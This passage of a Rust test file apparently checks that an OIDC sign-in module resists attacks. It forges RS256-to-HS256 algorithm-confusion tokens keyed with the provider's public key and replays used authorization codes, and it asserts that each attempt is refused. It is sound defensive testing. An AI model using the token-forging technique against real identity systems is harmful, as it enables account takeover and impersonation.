                            .find_map(|l| {
                                l.to_ascii_lowercase()
                                    .strip_prefix("content-length:")
                                    .map(|v| v.trim().parse::<usize>().unwrap())
                            })
                            .unwrap_or(0);
                        if buf.len() >= head_end + 4 + length {
                            break;
                        }
                    }
                }
                let body = queue
                    .lock()
                    .unwrap()
                    .pop_front()
                    .unwrap_or_else(|| json!({"error": "invalid_grant"}))
                    .to_string();
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = sock.write_all(answer.as_bytes()).await;
                let _ = sock.shutdown().await;
            });
        }
    });
    url
}

fn token_response(id_token: &str) -> Value {
    json!({ "access_token": "at", "token_type": "Bearer", "expires_in": 300, "id_token": id_token })
}

fn jwt_part(v: &Value) -> String {
    URL_SAFE_NO_PAD.encode(v.to_string())
}

fn decode_jwt_part(part: &str) -> Value {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).unwrap()).unwrap()
}

/// The provider's RSA public key for `kid`, from its published JWKS.
async fn published_rsa_key(
    http: &reqwest::Client,
    jwks_uri: &str,
    kid: &str,
) -> Rsa<openssl::pkey::Public> {
    let jwks: Value = http
        .get(jwks_uri)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let jwk = jwks["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kid"] == kid)
        .unwrap_or_else(|| panic!("kid {kid} not in {jwks}"));
    let number = |name: &str| {
        BigNum::from_slice(&URL_SAFE_NO_PAD.decode(jwk[name].as_str().unwrap()).unwrap()).unwrap()
    };
    Rsa::from_public_components(number("n"), number("e")).unwrap()
}

fn hs256(header: &Value, payload: &Value, secret: &[u8]) -> String {
    let input = format!("{}.{}", jwt_part(header), jwt_part(payload));
    let key = PKey::hmac(secret).unwrap();
    let mut signer = Signer::new(MessageDigest::sha256(), &key).unwrap();
    signer.update(input.as_bytes()).unwrap();
    let sig = signer.sign_to_vec().unwrap();
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(sig))
}

// ---------------------------------------------------------------- OIDC attacks

/// Algorithm confusion (RS256 → HS256): a token for the attacker, signed HS256 with the provider's RSA *public*
/// key as the HMAC secret (PEM and DER, SPKI and PKCS#1 encodings, as a library that feeds "the key" to HMAC
/// would), fed to `oidc::finish` through a token endpoint on 127.0.0.1. verify.rs exposes no public function
/// that validates a raw token, so `finish` is the narrowest public seam. The genuine RS256 token of the same
/// sign-in, through the same stub, is accepted first.
#[tokio::test]
async fn oidc_hs256_keyed_with_the_providers_public_key_is_refused() {
    let rp = rp().await;
    let (started, callback) = rp.sign_in().await;
    let genuine = rp.raw_id_token(&started, &callback.code).await;
    let mut parts = genuine.split('.');
    let header = decode_jwt_part(parts.next().unwrap());
    let mut payload = decode_jwt_part(parts.next().unwrap());
    assert_eq!(header["alg"], "RS256");
    let kid = header["kid"].as_str().unwrap().to_owned();
    let rsa = published_rsa_key(&rp.http, &rp.provider.jwks_uri, &kid).await;
    payload["preferred_username"] = json!(EVIL);
    payload["name"] = json!("Evil");
    let forged_header = json!({ "alg": "HS256", "typ": "JWT", "kid": kid });
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("SPKI PEM", rsa.public_key_to_pem().unwrap()),
        ("PKCS#1 PEM", rsa.public_key_to_pem_pkcs1().unwrap()),
        ("SPKI DER", rsa.public_key_to_der().unwrap()),
        ("PKCS#1 DER", rsa.public_key_to_der_pkcs1().unwrap()),
    ];
    let forged: Vec<(&str, String)> = secrets
        .iter()
        .map(|(name, secret)| (*name, hs256(&forged_header, &payload, secret)))
        .collect();
    let mut bodies = vec![token_response(&genuine)];
    bodies.extend(forged.iter().map(|(_, t)| token_response(t)));
    let provider = OidcProvider {
        token_endpoint: token_endpoint_stub(bodies).await,
        ..rp.provider.clone()
    };
    let jwks = oidc::JwksCache::new();
    let finish = || {
        oidc::finish(
            &rp.http,
            &jwks,
            &provider,
            &rp.client,
            "any-code",
            &started.pkce_verifier,
            &started.nonce,
            now(),
        )
    };

    let accepted = finish().await.expect("the genuine token through the stub");
    let mut refusals = Vec::new();
    for (name, _) in &forged {
        refusals.push((*name, finish().await));
    }

    assert_eq!(
        accepted.preferred_username.as_deref(),
        Some("alice@contoso.test")
    );
    for (name, refused) in refusals {
        assert_eq!(
            refused,
            Err(OidcError::UnsupportedAlg("HS256".into())),
            "{name}"
        );
        assert_eq!(refused.unwrap_err().code(), "unsupported_alg");
    }
}

/// Authorization code replay at module level: `finish_callback` twice with the same code; the provider refuses
/// the second redemption with `invalid_grant`, surfaced as OidcError::TokenEndpoint.
#[tokio::test]
async fn oidc_code_redeemed_twice_is_refused_by_the_provider() {
    let rp = rp().await;
    let (started, callback) = rp.sign_in().await;
    let jwks = oidc::JwksCache::new();
    let finish = || {
        oidc::finish_callback(
            &rp.http,
            &jwks,
            &rp.provider,
            &rp.client,
            &callback,
            &started.pkce_verifier,
            &started.nonce,
            now(),
        )
    };

    let first = finish().await;
    let second = finish().await;

    assert_eq!(
        first.map(|c| c.preferred_username),
        Ok(Some("alice@contoso.test".into()))
    );
    assert!(
        matches!(&second, Err(OidcError::TokenEndpoint { error, .. }) if error == "invalid_grant"),
        "{second:?}"
    );
    assert_eq!(second.unwrap_err().code(), "token_endpoint_error");
}

fn location(resp: &reqwest::Response) -> String {
    resp.headers()["location"].to_str().unwrap().to_owned()
}

/// Authorization code replay through the running app's `/oidc/callback`: after a completed sign-in, the same
/// callback again is refused on its used state (400 `wrong_state`), and the used code grafted onto the fresh
/// state of a new sign-in (so the state check passes) is refused by the provider: the completion page says
/// 403 `token_endpoint_error` and nobody is signed in.
#[tokio::test]
async fn oidc_code_replayed_through_the_http_callback_is_refused() {
    let app = spawn_app().await;
    app.login_as_admin().await;
    let peer = oidc_peer::start(
        CLIENT_ID,
        CLIENT_SECRET,
        &app.url("/oidc/callback"),
        &json!({ "alice": { "oid": "9a1b2c3d-0000-4000-8000-00000000a11c", "tid": TENANT,
                            "preferred_username": "alice@contoso.test", "name": "Alice" } })
        .to_string(),
    )
    .await;
    let resp = app
        .post_form(
            "/admin/identity/entra",
            &[
                ("cloud", "custom"),
                ("issuer_url", &peer.issuer),
                ("client_id", CLIENT_ID),
                ("client_secret", CLIENT_SECRET),
                ("use_for_admin", "on"),
            ],
        )
        .await;
    assert_redirect_to(&resp, "/admin/identity/entra");
    app.post_form("/admin/identity/entra/enable", &[]).await;
    local_user(&app, "alice@contoso.test", "alice@contoso.test").await;
    app.create_admin("alice@contoso.test", "another-long-password")
        .await;
    let start = |b: reqwest::Client| {
        let (login_url, start_url) = (app.url("/login"), app.url("/sso/start"));
        async move {
            let login = b.get(login_url).send().await.unwrap().text().await.unwrap();
            let token = csrf_token_in(&login);
            let resp = b
                .post(start_url)
                .form(&[("csrf_token", token.as_str())])
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status().as_u16(), 303);
            location(&resp)
        }
    };
    let browser = app.new_client();
    let callback = peer
        .login_without_browser(&start(browser.clone()).await, "alice")
        .await;
    let done = browser.get(&callback).send().await.unwrap();
    let done = browser.get(app.url(&location(&done))).send().await.unwrap();
    assert_redirect_to(&done, "/admin");

    // Layer 1: the same callback again; its state was used.
    let again = browser.get(&callback).send().await.unwrap();
    assert_eq!(again.status().as_u16(), 400);
    assert!(
        again
            .text()
            .await
            .unwrap()
            .contains("data-code=\"wrong_state\"")
    );

    // Layer 2: a fresh sign-in's state with the used code.
    let attacker = app.new_client();
    let fresh = peer
        .login_without_browser(&start(attacker.clone()).await, "alice")
        .await;
    let fresh_url = url::Url::parse(&fresh).unwrap();
    let fresh_state = fresh_url
        .query_pairs()
        .find(|(k, _)| k == "state")
        .unwrap()
        .1
        .into_owned();
    let mut grafted = url::Url::parse(&callback).unwrap();
    let pairs: Vec<(String, String)> = grafted
        .query_pairs()
        .map(|(k, v)| {
            let v = if k == "state" {
                fresh_state.clone()
            } else {
                v.into_owned()
            };
            (k.into_owned(), v)
        })
        .collect();
    grafted.query_pairs_mut().clear().extend_pairs(pairs);
    assert_ne!(grafted.as_str(), callback);
    assert_ne!(grafted.as_str(), fresh);
    let tokens_before = peer.state().await["token_requests"].as_u64().unwrap();

    let resp = attacker.get(grafted.as_str()).send().await.unwrap();
    let resp = attacker
        .get(app.url(&location(&resp)))
        .send()
        .await
        .unwrap();

    assert_eq!(resp.status().as_u16(), 403);
    let page = resp.text().await.unwrap();
    assert!(
        page.contains("data-code=\"token_endpoint_error\""),
        "{page}"
    );
    assert!(page.contains("invalid_grant"), "{page}");
    assert_eq!(
        peer.state().await["token_requests"].as_u64().unwrap(),
        tokens_before + 1,
        "the used code reached the provider once and was refused there"
    );
    let admin = attacker.get(app.url("/admin")).send().await.unwrap();
    assert_eq!(
        admin.status().as_u16(),
        303,
        "the attacker is not signed in"
    );
}
